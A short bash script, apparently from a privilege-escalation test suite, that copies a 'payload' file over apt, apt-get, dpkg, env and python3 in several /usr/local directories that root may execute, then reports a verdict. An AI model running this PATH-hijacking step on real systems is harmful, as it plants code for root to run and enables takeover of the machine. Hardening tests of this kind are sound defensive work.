#!/bin/bash
# Programs in /usr/local that root would execute.
. "$(dirname "$0")/lib/attack.sh"

for directory in /usr/local/sbin /usr/local/bin /usr/local /usr/local/lib; do
  for program in apt apt-get dpkg env python3; do cp payload "$directory/$program" 2>/dev/null; done
done
attempt hello
verdict
